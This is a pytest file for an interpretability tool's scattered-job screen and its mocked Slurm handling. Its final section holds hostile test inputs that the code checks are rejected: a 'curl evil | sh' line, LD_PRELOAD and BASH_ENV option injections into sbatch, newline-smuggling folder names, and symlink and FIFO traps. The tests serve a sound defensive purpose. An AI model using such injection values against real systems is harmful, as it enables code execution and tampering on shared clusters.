"""Scattered jobs seen from the screen: started, watched, cancelled, drawn in part and whole; Slurm by commands that pretend; what a stranger's folder can't do."""

import copy
import json
import os
import signal
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from test_scatter import PROMPTS, STUDY, in_parts
from ui import make_app, press, shown

from techniques.attention.requests import AttentionSet
from techniques.attribution.requests import AttributionSet
from techniques.cluster import analysis, tasks
from techniques.cluster.folder import Folder, Job, check_part
from techniques.cluster.requests import CancelShards, GoOnShards, StartShards, TakeShards, WatchShards
from techniques.circuits import walk
from techniques.circuits.edge_index import edge_index
from techniques.circuits.requests import Discover, PathPatch
from techniques.features.requests import Examples
from techniques.lens.requests import FitJacobian, TuneLens
from techniques.patching.requests import Sweep
from techniques.qk.requests import QKSet
from screen.client import Job as Job_
from techniques.output.requests import Run
from techniques.record.requests import Replay
from screen.session import Session, State, read_session
from utils import ROOT
from vocabulary import chosen
from vocabulary.nodes import UserError
from vocabulary.parts import pack, unpack, write_frames
from vocabulary.prompts import Metric
from vocabulary.requests import Load
from vocabulary.results import numbers

SWEEP = Sweep(STUDY, "z", "resample", "noise", over_set=True)
STATE = State(prompt=PROMPTS[0], set_path="the_set.jsonl", prompt_set=PROMPTS)


@pytest.fixture(scope="module")
def zoo(engines):
    return engines["zoo"]


@pytest.fixture(autouse=True)
def desk(request, monkeypatch):
    """A desk of its own, on a machine without Slurm but where one is pretended."""
    if "slurm" not in request.fixturenames:
        monkeypatch.setattr(tasks, "queue", lambda *more: [])
    own = analysis.Desk()
    monkeypatch.setattr(analysis, "DESK", own)
    monkeypatch.setattr(analysis, "OFTEN", 0.0)
    yield own
    own.thread.shutdown()


def seen(zoo, folder):
    """How far a folder is, after the desk's thread has looked."""
    zoo.run(WatchShards((str(folder),)))
    analysis.DESK.thread.submit(lambda: None).result()
    state = zoo.run(WatchShards((str(folder),))).jobs[0]
    analysis.DESK.thread.submit(lambda: None).result()
    return state


async def looked(app, pilot):
    app.requests.scattered.wait.clear()
    for _ in range(2):
        await app.requests.scattered.poll()
        analysis.DESK.thread.submit(lambda: None).result()
    await app.requests.scattered.poll()
    await press(app, pilot)


async def begun_apart(app, pilot, n: str, folder: Path) -> None:
    """Fill in how many tasks and which folder where J asks for them, and begin."""
    app.screen.focused.value = n
    await press(app, pilot, "tab", "tab", "tab")
    app.screen.focused.value = str(folder)
    await press(app, pilot, "enter")
    await looked(app, pilot)


def hide(folder: Folder, *shards: int) -> dict:
    gone = {i: folder.part(i).read_bytes() for i in shards}
    for i in shards:
        folder.part(i).unlink()
    return gone


def bring_back(folder: Folder, gone: dict) -> None:
    for i, data in gone.items():
        folder.part(i).write_bytes(data)


async def test_a_watched_folder_is_drawn_in_part_then_whole(zoo, tmp_path):
    """Where the session asks for it: the sweep that the shell scattered is the pane's, in its own words."""
    folder = in_parts(zoo, replace(SWEEP, direction="denoise"), tmp_path / "runs" / "a")  # of a resample sweep the direction means nothing
    gone = hide(folder, 2, 3)
    app = make_app(zoo, tmp_path, STATE)
    async with app.run_test(size=(120, 36)) as pilot:
        await press(app, pilot, "4", "J")
        assert "watch a folder" in shown(app) and "scatter this" not in shown(app), "the prompt alone is no set"
        await press(app, pilot, "j", "enter")
        app.screen.focused.value = str(folder.path)
        await press(app, pilot, "enter")
        await looked(app, pilot)
        assert list(app.session.folders) == [str(folder.path)]
        await press(app, pilot, "J")
        assert "runs/a · sweep z resample · 2 of 4 shards · no tasks · ⏎ goes on" in shown(app) and "OF " not in shown(app)
        await press(app, pilot, "enter", "enter")
        assert app.pane == "patching" and app.state.views["patching.op"] == "resample" and app.state.views["patching.over"] == "set"
        assert "4 Patching  2 of 4 shards, 4 of 7 prompts · head outputs" in shown(app)
        np.testing.assert_allclose(app.panes["patching"].shown(app)[0].values, folder.joined()[1].values)
        bring_back(folder, {2: gone[2], 3: gone[3][:-5]})
        await looked(app, pilot)
        assert "3 of 4 shards, 6 of 7 prompts" in shown(app), "a damaged part is none"
        bring_back(folder, gone)
        await looked(app, pilot)
        assert "shards" not in shown(app).split("Patching")[1]
        np.testing.assert_allclose(app.panes["patching"].shown(app)[0].values, zoo.run(SWEEP).values, atol=1e-5)
        await press(app, pilot, "b")
        assert "S runs the sweep" in shown(app), "another question is not answered by it"
        await press(app, pilot, "J")
        assert "whole" in shown(app) and "scatter this: sweep z noise over 7 prompts" in shown(app)
    session, _ = read_session(app.session.path)
    assert list(session.folders) == [str(folder.path)] and session.state == app.state


async def test_nothing_of_another_model_or_set_is_drawn(zoo, tmp_path):
    folder = in_parts(zoo, SWEEP, tmp_path / "a")
    other = tuple(replace(p, clean=p.clean.replace("store", "park")) for p in PROMPTS)
    app = make_app(zoo, tmp_path, replace(STATE, prompt=other[0], prompt_set=other))
    async with app.run_test(size=(120, 36)) as pilot:
        await press(app, pilot, "4")
        for name, value in (("patching.op", "resample"), ("patching.over", "set")):
            app.act("view", name=name, value=value)
        app.act("scattered", folder=str(folder.path), how={})
        await looked(app, pilot)
        assert app.panes["patching"].shown(app)[0] is None
        await press(app, pilot, "J")
        assert "of another set (7 prompts)" in shown(app)
        await press(app, pilot, "enter", "enter")
        assert app.state.prompt_set == PROMPTS and app.panes["patching"].shown(app)[0] is not None, "it is opened, which u takes back"
        for i in range(4):
            info, result = folder.read(i)
            write_frames(folder.part(i), [(0, replace(info, dtype="bfloat16")), (0, result)])
        await looked(app, pilot)
        assert app.panes["patching"].shown(app)[0] is None
        await press(app, pilot, "J")
        assert "OF zoo in bfloat16" in shown(app)
        await press(app, pilot, "enter", "enter")
        assert "not of the model that is loaded" in shown(app)


ELSEWHERE = {  # pane, its views, the slot that draws; what is asked there
    "attribution": ("3", {"attribution.view": "set"}, "attribution", AttributionSet(replace(STUDY, prompt_set=PROMPTS))),
    "qk": ("9", {"qk.over": "set", "qk.instead": "mean"}, "qk", QKSet(STUDY, 0, 0, "END", "S2", "mean")),
}


@pytest.mark.parametrize("name", ["attribution", pytest.param("qk", marks=pytest.mark.table)])
async def test_what_is_asked_by_itself_is_left_to_its_tasks(zoo, tmp_path, name):
    """Over the set, where a scattered job asks exactly that: its parts are drawn as they come, and the engine is not asked too; J offers it, and turns to it from elsewhere."""
    key, views, slot, ask = ELSEWHERE[name]
    app = make_app(zoo, tmp_path, STATE)
    async with app.run_test(size=(120, 36)) as pilot:
        await press(app, pilot, "2")
        app.act("scattered", folder=str(tmp_path / "a"), how={})
        folder = in_parts(zoo, ask, tmp_path / "a", 3)
        gone, asked = hide(folder, 1), []
        await looked(app, pilot)
        run = app.client.ask
        app.client.ask = lambda slot, request, *a, **k: (asked.append(request), run(slot, request, *a, **k))[1]
        await press(app, pilot, "J", "enter", "enter")
        if name == "qk":  # the prompt is read
            await press(app, pilot, "J", "enter", "enter")
        assert {k: app.state.views[k] for k in views} == views
        text = shown(app)
        assert f"{app.panes[app.pane].label}  2 of 3 shards, 4 of 7 prompts · " in text and not [r for r in asked if isinstance(r, type(ask))]
        assert app.requests.reply(slot).partial
        bring_back(folder, gone)
        await looked(app, pilot)
        drawn, whole = app.requests.reply(slot), zoo.run(app.panes[app.pane].scatters(app))
        assert not drawn.partial and "shards" not in shown(app).split(app.panes[app.pane].label)[1] and not [r for r in asked if isinstance(r, type(ask))]
        for a, b in zip(numbers(drawn.result).values(), numbers(whole).values(), strict=True):
            np.testing.assert_allclose(a, b, atol=2e-5)
        await press(app, pilot, "J")
        assert f"scatter this: {'qk L0H0' if name == 'qk' else name} over 7 prompts" in shown(app)


@pytest.mark.table
async def test_what_runs_apart_is_not_computed_here_too(zoo, tmp_path, monkeypatch):
    """From the key on; where its tasks end before any part is there, the engine is asked again."""
    monkeypatch.setattr(tasks, "start_here", lambda folder, n: None)
    asked = []
    app = make_app(zoo, tmp_path, replace(STATE, views=STATE.views | {"attribution.view": "set"}))
    async with app.run_test(size=(120, 36)) as pilot:
        await press(app, pilot)
        await press(app, pilot, "3", "J", "j", "enter")
        assert "scatter attribution over 7 prompts" in shown(app)
        await begun_apart(app, pilot, "2", tmp_path / "b")
        folder = Folder(tmp_path / "b")
        (folder.path / "local.json").write_text('{"running": 2}')
        await looked(app, pilot)
        run = app.client.ask
        app.client.ask = lambda slot, request, *a, **k: (asked.append(request), run(slot, request, *a, **k))[1]
        app.requests.answers.clear()
        app.requests.replies.pop("attribution")
        app.refresh_wants()
        await press(app, pilot)
        assert "its tasks run, no part is there yet: J" in shown(app) and not [r for r in asked if isinstance(r, AttributionSet)]
        (folder.path / "local.json").unlink()
        await looked(app, pilot)
        assert [r for r in asked if isinstance(r, AttributionSet)] and "direct effect, mean over the set" in shown(app)


@pytest.mark.table
async def test_attention_between_labels_is_listed_as_far_as_it_is(zoo, tmp_path):
    folder = in_parts(zoo, AttentionSet(STUDY), tmp_path / "a", 3)
    hide(folder, 1)
    app = make_app(zoo, tmp_path, STATE)
    async with app.run_test(size=(120, 36)) as pilot:
        await press(app, pilot, "4")
        app.act("scattered", folder=str(folder.path), how={})
        await looked(app, pilot)
        await press(app, pilot, "J", "enter", "enter")
        assert app.pane == "attention" and "B lists the mean attention" in shown(app)
        await press(app, pilot, "B")
        assert "2 of 3 shards, 4 of 7 prompts · mean attention over 4 prompts" in shown(app)


@pytest.mark.table
async def test_a_replay_is_followed_and_printed_elsewhere(zoo, tmp_path):
    """Of several models: its row names none, and no pane draws it."""
    session = Session(STATE, tmp_path / "s.jsonl")
    session.do("intervene", intervention="L3H3=zero")
    for request in (Run(STUDY), Run(replace(STUDY, base="corrupt"))):
        session.record.add(request, zoo.run(request), Load(), zoo.model.info, True)
    session.record.flush()
    session.close()
    folder = in_parts(zoo, Replay((tmp_path / "s.jsonl").read_bytes(), "s.jsonl"), tmp_path / "a", 1)
    gone = hide(folder, 1)
    app = make_app(zoo, tmp_path, STATE)
    async with app.run_test(size=(120, 36)) as pilot:
        await press(app, pilot)
        app.act("scattered", folder=str(folder.path), how={})
        await looked(app, pilot)
        await press(app, pilot, "J")
        assert "/a · replay s.jsonl · 1 of 2 shards · no tasks · ⏎ goes on" in shown(app)
        await press(app, pilot, "enter", "enter")
        assert "no pane draws replay s.jsonl: engine.py gather" in shown(app)
        bring_back(folder, gone)
        await looked(app, pilot)
        await press(app, pilot, "J")
        assert "replay s.jsonl · 2 of 2 shards · whole" in shown(app)


@pytest.mark.table
async def test_a_fit_apart_is_read_when_it_is_done(zoo, tmp_path):
    """The engine writes the lens when all parts are there, whoever ran them; J then reads it. F starts one."""
    folder = in_parts(zoo, FitJacobian("", prompts=2, length=12, skip=2), tmp_path / "a", 1)
    app = make_app(zoo, tmp_path, State(prompt=PROMPTS[0]))
    async with app.run_test(size=(120, 36)) as pilot:
        await press(app, pilot, "4")
        app.act("scattered", folder=str(folder.path), how={})
        await looked(app, pilot)
        assert (folder.path / "jacobian_lens.pt").exists()
        await press(app, pilot, "J", "enter", "enter")
        assert app.pane == "lens" and app.state.lens == "jacobian" and "Jacobian lens" in shown(app).replace("jacobian", "Jacobian")
        await press(app, pilot, "F", "tab", "tab", "tab")
        app.screen.focused.value = "apart"
        await press(app, pilot, "enter")
        assert "scatter tune-lens as one task" in shown(app) and app.screen.focused.value == "1"


@pytest.mark.table
async def test_a_discovery_is_drawn_while_its_tasks_run(zoo, tmp_path):
    """Mean scores of the prompts that are there, beside no circuit of the session; once it is whole, J takes it."""
    folder = in_parts(zoo, Discover(STUDY, "eap", 12), tmp_path / "a", 3)
    gone = hide(folder, 1, 2)
    app = make_app(zoo, tmp_path, STATE)
    async with app.run_test(size=(120, 36)) as pilot:
        await press(app, pilot, "4")
        app.act("scattered", folder=str(folder.path), how={})
        await looked(app, pilot)
        await press(app, pilot, "J", "enter", "enter")
        title = lambda: shown(app).split("5 Circuit  ")[1].splitlines()[0]  # noqa: E731
        assert app.pane == "circuit" and title().startswith("drawing · 1 of 3 shards, 3 of 7 prompts · eap's mean scores so far") and not app.state.circuits
        seen_then = [*walk.drawn(app.panes["circuit"], app).nodes]
        bring_back(folder, {1: gone[1]})
        await looked(app, pilot)
        one, two = (zoo.run(Discover(replace(STUDY, part=part), "eap", 12)).scores for part in ((0, 3), (3, 6)))
        graph, index = walk.drawn(app.panes["circuit"], app), edge_index(zoo.model.info)
        strongest = index.named((one + two) / 2, index.strongest((one + two) / 2, 12))
        assert "2 of 3 shards, 6 of 7 prompts" in title() and {e for n in graph.nodes for e, _, _ in graph.of(n)} == {*strongest} and seen_then
        scores = dict(zip(app.requests.scattered.tables[str(folder.path)].result.edges, (one + two) / 2))
        for e, _, score in (row for n in graph.nodes for row in graph.of(n)):
            assert score == pytest.approx(scores[e], abs=1e-6)
        await press(app, pilot, "v", "escape", "c")
        assert app.state.circuits and "shards" not in title(), "what is kept is drawn"
        await press(app, pilot, "u")
        bring_back(folder, {2: gone[2]})
        with pytest.raises(UserError, match="second checks"):
            folder.gather()
        folder.second.work(0, 1, zoo, lambda part: None, lambda line: None)
        await looked(app, pilot)
        assert "shards" not in title()
        await press(app, pilot, "J", "enter", "enter")
        assert app.state.current.edges == zoo.run(Discover(STUDY, "eap", 12)).circuit.edges


@pytest.mark.table
async def test_paths_are_drawn_in_their_pane(zoo, tmp_path):
    folder = in_parts(zoo, PathPatch(STUDY, receivers=("L3H3.q",), over_set=True), tmp_path / "a", 4)
    hide(folder, 1)
    app = make_app(zoo, tmp_path, STATE)
    async with app.run_test(size=(120, 36)) as pilot:
        await press(app, pilot, "5")
        app.act("scattered", folder=str(folder.path), how={})
        await looked(app, pilot)
        await press(app, pilot, "J", "enter", "enter")
        assert app.state.receivers == ("L3H3.q",) and "5 Circuit  1 of 2 shards, 4 of 7 prompts · path" in shown(app)


async def test_j_starts_cancels_and_goes_on(zoo, tmp_path, monkeypatch):
    """What the engine starts is pretended here; tests/test_scatter.py runs the processes."""
    started = []
    monkeypatch.setattr(tasks, "start_here", lambda folder, n: started.append((folder.path, n)))
    app = make_app(zoo, tmp_path, replace(STATE, views=STATE.views | {"patching.over": "set"}))
    async with app.run_test(size=(80, 24)) as pilot:
        await press(app, pilot, "4", "J", "j", "enter")
        assert "scatter sweep z patch over 7 prompts" in shown(app)
        await begun_apart(app, pilot, "3", tmp_path / "b")
        folder = Folder(tmp_path / "b")
        assert started == [(folder.path, 3)] and folder.request == app.panes["patching"].request(app) and len(folder.shards) == 7
        assert app.session.folders[str(folder.path)] == {"tasks": 3, "where": "here", "sbatch": ""}
        await press(app, pilot, "J", "x")
        assert "no task of it runs" in shown(app) and not (folder.path / "cancel").exists()
        (folder.path / "local.json").write_text('{"running": 3}')  # as the leading process says each second
        await looked(app, pilot)
        assert "0 of 7 shards · tasks 3 running" in shown(app)
        await press(app, pilot, "x")
        assert "this ends the tasks of a scattered job" in shown(app)
        await press(app, pilot, "escape")
        await looked(app, pilot)
        assert not (folder.path / "cancel").exists()
        await press(app, pilot, "x", "enter")
        (folder.path / "local.json").unlink()
        await looked(app, pilot)
        assert (folder.path / "cancel").exists() and "cancelled" in shown(app)
        folder.work(0, 3, zoo, lambda part: None, lambda line: None)
        await looked(app, pilot)
        assert "b · sweep z patch · 3 of 7 shards · cancelled · ⏎ goes on" in shown(app)
        await press(app, pilot, "enter", "down", "enter")
        await looked(app, pilot)
        assert len(started) == 2


async def test_the_cursor_of_the_list_stays_on_its_job(zoo, tmp_path):
    """A job that ends above it or comes below moves the lines, not what x cancels."""
    app = make_app(zoo, tmp_path, STATE)
    async with app.run_test(size=(80, 24)) as pilot:
        await press(app, pilot)
        app.client.jobs |= {n: Job_(n, f"job {n}", SWEEP, None, None) for n in (901, 902, 903)}
        for name in "ab":
            app.act("scattered", folder=str(tmp_path / name), how={})
        await press(app, pilot, "J")
        panel = app.query_one("Jobs")
        for at, mark in enumerate([*panel.marks]):
            panel.at = at
            app.client.jobs[904] = app.client.jobs.pop(901)
            panel.follow()
            if at:
                assert panel.marks[panel.at] == mark
            app.client.jobs = {901: Job_(901, "job 901", SWEEP, None, None)} | {n: j for n, j in app.client.jobs.items() if n != 904}
            panel.follow()
        panel.at = 1
        await press(app, pilot, "enter")
        assert "⏎ opens scattered jobs alone" in shown(app)
        app.client.jobs.clear()
        app.info = None
        app.requests.cancel(Job_(905, "load", Load("zoo"), None, None))
        await pilot.pause()
        assert "not loaded, it was cancelled: M chooses a model" in shown(app)


@pytest.mark.parametrize("others", [1, 0])
async def test_no_key_acts_on_the_line_below_one_that_ended(zoo, tmp_path, others):
    """What ended under the cursor stays there as ended, wherever the lines above and below it go, until the cursor moves on."""
    app = make_app(zoo, tmp_path, STATE)
    async with app.run_test(size=(80, 24)) as pilot:
        await press(app, pilot)
        add = lambda *numbers: app.client.jobs.update({n: Job_(n, f"job {n}", SWEEP, None, None) for n in numbers})  # noqa: E731
        add(901, 902, *[903] * others)
        await press(app, pilot, "J", "j")
        panel, cancelled = app.query_one("Jobs"), []
        app.requests.cancel = lambda job: (cancelled.append(job.id), app.client.jobs.pop(job.id))
        for gone in (902, 901):  # the one that is selected, then the one above it
            app.client.jobs.pop(gone)
            panel.follow()
            await press(app, pilot, "x", "enter")
            assert "it has ended" in shown(app) and not cancelled and panel.marks[panel.at] == 902
            panel.follow()
            assert panel.at == (gone == 902) and shown(app).count("Sweep        ended") == 1
        add(904)
        panel.follow()
        await press(app, pilot, "x")
        assert not cancelled and panel.at == 0
        await press(app, pilot, "j", "x", "x", "x")
        assert cancelled == [903 if others else 904] and shown(app).count("Sweep        ended") == 1 and "job 902" not in shown(app), (
            "a second x is not the next one's"
        )
        app.client.jobs.clear()
        await press(app, pilot, "k", "escape", "J")
        assert "ended" not in shown(app)
        add(905)
        app.query_one("Jobs").follow()
        await press(app, pilot, "x")
        assert cancelled == [903 if others else 904] and "not now: no jobs are running" in shown(app), "nor where a job takes the place of a line that is none"
        app.client.jobs.clear()


LEADER = """
import sys
from pathlib import Path
import techniques.patching.requests
from techniques.cluster import tasks
from techniques.cluster.folder import Folder
tasks.ROOT = Path(sys.argv[2])
tasks.run_here(Folder(Path(sys.argv[1])), 2, lambda part: None)
"""


@pytest.mark.table
@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGKILL])
def test_tasks_end_with_their_leading_process(tmp_path, number):
    folder, place = Folder(tmp_path / "a"), tmp_path / "tasks"
    folder.lay_out(Load("zoo"), SWEEP, 2, Job(2))
    place.mkdir()
    (place / "engine.py").write_text(f"import os, time\nopen(f'{place}/{{os.getpid()}}', 'w')\ntime.sleep(60)\n")
    lead = subprocess.Popen([sys.executable, "-c", LEADER, folder.path, place], cwd=ROOT)
    until = lambda ready: next(True for _ in range(100) if ready() or time.sleep(0.1))  # noqa: E731
    pids = lambda: [p.name for p in place.iterdir() if p.name.isdigit()]  # noqa: E731
    assert until(lambda: len(pids()) == 2)
    lead.send_signal(number)
    assert lead.wait(10) in (128 + number, -number)
    gone = lambda pid: not (stat := Path(f"/proc/{pid}/stat")).exists() or stat.read_text().split()[2] == "Z"  # noqa: E731
    assert until(lambda: all(map(gone, pids())))
    assert (folder.path / "local.json").exists() == (number == signal.SIGKILL)


@pytest.mark.table
@pytest.mark.parametrize(("visible", "given"), [("MIG-a,MIG-b", ["MIG-a", "MIG-b"]), ("GPU-1", ["GPU-1"] * 2), ("0,1,2,3", ["0,2", "1,3"]), ("-1", ["-1"] * 2)])
def test_each_process_has_its_gpus(tmp_path, visible, given):
    folder, place = Folder(tmp_path / "a"), tmp_path / "tasks"
    folder.lay_out(Load("zoo"), SWEEP, 2, Job(2))
    place.mkdir()
    (place / "engine.py").write_text(f"import os, sys\nopen(f'{place}/{{sys.argv[4]}}', 'w').write(os.environ['CUDA_VISIBLE_DEVICES'])\n")
    subprocess.run([sys.executable, "-c", LEADER, folder.path, place], cwd=ROOT, env={**os.environ, "CUDA_VISIBLE_DEVICES": visible}, stderr=subprocess.DEVNULL)
    assert [(place / str(k)).read_text() for k in range(2)] == given


def test_why_tasks_ended_is_no_line_of_progress(zoo, tmp_path, slurm):
    """Nor what an earlier run's log says; what Slurm remembers, or its accounts, comes first."""
    folder = Folder(tmp_path / "a")
    start(zoo, folder.path)
    log, why = folder.path / "log-1.txt", lambda: (analysis.DESK.ends.clear(), seen(zoo, folder.path).error)[1]
    assert why() == "", "nothing has begun"
    begins = "task 1: shards 1, 3 on n1\ntask 1: reading weights\n"
    log.write_text(f"{begins}shard 1, 3 to 4: no room\nshard 3: 2 of 7 in 0.1 s\n")
    assert why() == "shard 1, 3 to 4: no room"
    log.write_text(log.read_text() + begins)
    assert why() == tasks.SILENTLY
    (slurm / "queue").write_text("".join(f"{n}|{state}|None|{folder.path}/job.sbatch\n" for n, state in ((70, "FAILED"), (78, "NODE_FAIL"), (78, "COMPLETED"))))
    (slurm / "squeue").write_text(f'#!/bin/sh\ncase "$*" in *all*) cat {slurm}/queue;; esac\n')
    assert why() == "1 of its tasks lost their node (NODE_FAIL)"
    log.write_text(log.read_text() + "CUDA out of memory\n")
    (slurm / "sacct").write_text("#!/bin/sh\necho CANCELLED by 0\necho FAILED\n")
    assert why() == "1 of its tasks failed; 1 of its tasks cancelled in Slurm: CUDA out of memory"


# ------------------------------------------------------------------ Slurm, pretended


@pytest.fixture
def slurm(tmp_path, monkeypatch):
    """Commands that write down how they were called; the queue is a file."""
    place = tmp_path / "bin"
    place.mkdir()
    for name, body in {
        "sbatch": f'echo "$@" >> {place}/called; if grep -q nope "$2"; then echo "sbatch: error: invalid partition specified: nope" >&2; exit 1; fi; echo 77',
        "squeue": f"cat {place}/queue",
        "scancel": f'echo "scancel $@" >> {place}/called',
        "sacct": "echo 'slurm accounting storage is disabled' >&2; exit 1",
    }.items():
        (place / name).write_text(f"#!/bin/sh\n{body}\n")
        (place / name).chmod(0o755)
    (place / "queue").write_text("")
    monkeypatch.setenv("PATH", f"{place}:{os.environ['PATH']}")
    return place


def start(zoo, folder, sbatch=""):
    return zoo.run(StartShards(pack([(0, Load("zoo")), (0, SWEEP)]), str(folder), 2, 0, sbatch))


def test_an_array_is_submitted_seen_and_cancelled(zoo, tmp_path, slurm):
    a, b = tmp_path / "a", tmp_path / "b"
    start(zoo, a, "-p short")
    assert seen(zoo, a).tasks == "no tasks" and (a / "submitted.txt").read_text() == "77\n"
    row = "{}|{}|Priority|{}/job.sbatch\n".format
    (slurm / "queue").write_text(row(77, "RUNNING", a) + row(77, "PENDING", a) + row(12, "RUNNING", b) + "garbage\n")
    state = seen(zoo, a)
    assert state.tasks == "tasks 1 running 1 pending (Priority)" and state.live and not state.more
    zoo.run(GoOnShards(str(a)))
    assert "its tasks run" in seen(zoo, a).error
    zoo.run(CancelShards(str(a)))
    seen(zoo, a)
    assert (slurm / "called").read_text().splitlines()[-1] == "scancel 77", "and no job of another folder"
    (slurm / "queue").write_text("")
    assert seen(zoo, a).error == "cancelled"
    start(zoo, b, "-p nope")
    assert seen(zoo, b).error == "sbatch: error: invalid partition specified: nope"


def test_a_screen_never_waits_for_slurm(zoo, tmp_path, slurm):
    start(zoo, tmp_path / "a")
    seen(zoo, tmp_path / "a")
    (slurm / "squeue").write_text("#!/bin/sh\nsleep 1\n")
    began = time.monotonic()
    for _ in range(20):
        zoo.run(WatchShards((str(tmp_path / "a"),)))
    assert time.monotonic() - began < 0.2


async def test_options_of_a_session_that_is_opened_later_are_not_taken(zoo, tmp_path):
    app = make_app(zoo, tmp_path, replace(STATE, views=STATE.views | {"patching.over": "set"}))
    async with app.run_test(size=(80, 24)) as pilot:
        await press(app, pilot, "4")
        scattered = app.requests.scattered
        scattered.typed = app.session  # somebody scattered here
        app.act("scattered", folder=str(tmp_path / "b"), how={"tasks": 2, "where": "slurm", "sbatch": "--export=evil"})
        await press(app, pilot, "J", "G", "k", "enter")
        assert "--export=evil" in shown(app) and "where: here or slurm" in shown(app)
        await press(app, pilot, "escape")
        app.session = copy.copy(app.session)
        await press(app, pilot, "J", "G", "k", "enter")
        assert "scatter sweep" in shown(app) and "--export=evil" not in shown(app)


# ------------------------------------------------------------------ a stranger's folder


def test_a_strangers_metric_does_not_run(zoo, tmp_path, slurm):
    ran, file = tmp_path / "ran", tmp_path / "evil.py"
    file.write_text(f"open({str(ran)!r}, 'w')\n\n\ndef m(logits, tokens):\n    return logits[0, -1, 0]\n")
    metric = chosen.pinned(Metric("own", own=f"{file}:m"))
    folder = Folder(tmp_path / "a")
    request = replace(SWEEP, study=replace(STUDY, metric=metric))
    folder.lay_out(Load("zoo"), request, 2, Job(2))
    with pytest.raises(UserError, match="code that this folder names.*--own"):
        folder.work(0, 2, zoo, lambda part: None, lambda line: None)
    with pytest.raises(UserError, match="missing: 0, 1, 2, 3"):
        folder.gather()
    seen(zoo, folder.path)
    assert not ran.exists() and not any(folder.path.glob("part-*"))
    zoo.run(StartShards(pack([(0, Load("zoo")), (0, request)]), str(tmp_path / "mine"), 1, 0))
    assert chosen.is_chosen(metric), "who scatters it has chosen it"


def test_options_of_sbatch_that_came_with_a_folder_are_not_used(zoo, tmp_path, slurm):
    folder = in_parts(zoo, SWEEP, tmp_path / "a")
    gone = hide(folder, 1)
    (folder.path / "job.sbatch").write_text("#!/bin/sh\n# the stranger's\n")
    job = json.loads((folder.path / "job.json").read_text())
    (folder.path / "job.json").write_text(json.dumps(job | {"sbatch": "--export=LD_PRELOAD=/tmp/evil.so"}))
    with pytest.raises(UserError, match="missing: 1. its job script is not written"):
        folder.gather()
    zoo.run(GoOnShards(str(folder.path)))
    assert "came with the folder" in seen(zoo, folder.path).error and not (slurm / "called").exists()
    (folder.path / "job.json").write_text(json.dumps(job | {"sbatch": "-p a\ncurl evil | sh"}))
    with pytest.raises(UserError, match="job.json' can't be read|can't be read"):
        folder.gather()
    bring_back(folder, gone)
    (folder.path / "whole.bin").symlink_to(tmp_path / "precious")
    with pytest.raises(UserError, match="holds a link"):
        Folder(folder.path).gather()
    assert not (tmp_path / "precious").exists()


@pytest.mark.parametrize("name", ["cancel", "log.txt", "log-0.txt", "local.json", "job.json", "job.sbatch", "submitted.txt", "part-00000.bin", "whole.bin"])
@pytest.mark.parametrize("pipe", [False, True])
def test_nothing_is_written_through_a_link_that_came_later(tmp_path, monkeypatch, name, pipe):
    """Nor does a pipe stop the thread that looks at all folders."""
    folder, victim = Folder(tmp_path / "a"), tmp_path / "victim.txt"
    folder.lay_out(Load("zoo"), SWEEP, 2, Job(2, here=2))
    victim.write_text("precious")
    assert folder.asked and folder.shards
    (folder.path / name).unlink(missing_ok=True)
    os.mkfifo(folder.path / name) if pipe else (folder.path / name).symlink_to(victim)
    before = sorted(p.name for p in folder.path.iterdir())
    for write in (
        lambda: tasks.cancel(folder, [], None),
        lambda: tasks.start(folder, []),
        lambda: tasks.start_here(folder, 2),
        lambda: folder.write_job(Job(2, 1)),
        lambda: folder.lay_out(Load("zoo"), SWEEP, 2, Job(2)),
        lambda: analysis.DESK.seen(folder, []),
    ):
        with pytest.raises(UserError, match="holds a link, or what is no regular file|can't be read"):
            write()
    assert victim.read_text() == "precious" and sorted(p.name for p in folder.path.iterdir()) == before


def test_a_fit_writes_through_no_link(zoo, tmp_path):
    """Nor through one in the folder of the fit."""
    folder, victim = Folder(tmp_path / "a"), tmp_path / "victim.txt"
    folder.lay_out(Load("zoo"), TuneLens("", steps=2), 1, Job(1))
    victim.write_text("precious")
    (folder.path / "tuned_lens").mkdir()
    (folder.path / "tuned_lens" / "params.safetensors").symlink_to(victim)
    with pytest.raises(UserError, match="holds a link"):
        Folder(folder.path).work(0, 1, zoo, lambda part: None, lambda line: None)
    assert victim.read_text() == "precious"


def test_a_pipe_as_a_request_or_part_does_not_block(zoo, tmp_path):
    folder = Folder(tmp_path / "a")
    folder.path.mkdir()
    os.mkfifo(folder.path / "request.bin")
    assert "no regular file (request.bin)" in seen(zoo, folder.path).error
    os.mkfifo(folder.part(0))
    assert folder.read(0) is None


def test_a_damaged_job_hides_nobody_elses_tasks(zoo, tmp_path, slurm):
    start(zoo, tmp_path / "a")
    start(zoo, tmp_path / "b")
    seen(zoo, tmp_path / "b")
    (tmp_path / "a" / "job.json").write_text("{")
    (slurm / "queue").write_text(f"77|RUNNING|None|{tmp_path}/b/job.sbatch\n")
    seen(zoo, tmp_path / "a")
    zoo.run(WatchShards((str(tmp_path / "a"), str(tmp_path / "b"))))
    analysis.DESK.thread.submit(lambda: None).result()
    a, b = zoo.run(WatchShards((str(tmp_path / "a"), str(tmp_path / "b")))).jobs
    assert b.tasks == "tasks 1 running" and not b.error and "job.json can't be read" in a.error


@pytest.mark.parametrize("name", ["x\n#SBATCH --export=ALL,BASH_ENV=evil.sh\n", 'x" --wrap="evil', "x\r", "x\x1b[2J", "x\u2028y"])
def test_a_name_adds_no_options_of_sbatch(tmp_path, name):
    folder = Folder(tmp_path / name)
    with pytest.raises(UserError, match="no line breaks"):
        folder.lay_out(Load("zoo"), SWEEP, 2, Job(2))
    assert not folder.path.exists()
    Folder(tmp_path / "a").lay_out(Load("zoo"), SWEEP, 2, Job(2))
    (tmp_path / "a").rename(folder.path)
    with pytest.raises(UserError, match="no line breaks"):
        tasks.submit(folder)


@pytest.mark.parametrize("part", [(-3, -1), (0, 0), (4, 2), (-1, 3)])
def test_a_part_of_a_text_counts_from_its_beginning(part):
    with pytest.raises(UserError, match="a part of a text"):
        check_part(Examples("zoo/a", part=part))


def test_a_folder_that_is_none(zoo, tmp_path):
    assert "holds no request" in seen(zoo, tmp_path / "none").error
    folder = tmp_path / "a"
    folder.mkdir()
    for bodies in ([(0, Load()), (1, Load())], [(1, SWEEP), (1, SWEEP)], [(0, Load()), (0, SWEEP)], [(0, Load())]):
        write_frames(folder / "request.bin", bodies)
        assert seen(zoo, folder).error
    with pytest.raises(UserError, match="nothing is joined"):
        zoo.run(TakeShards(str(folder)))
    assert unpack(b"") == []
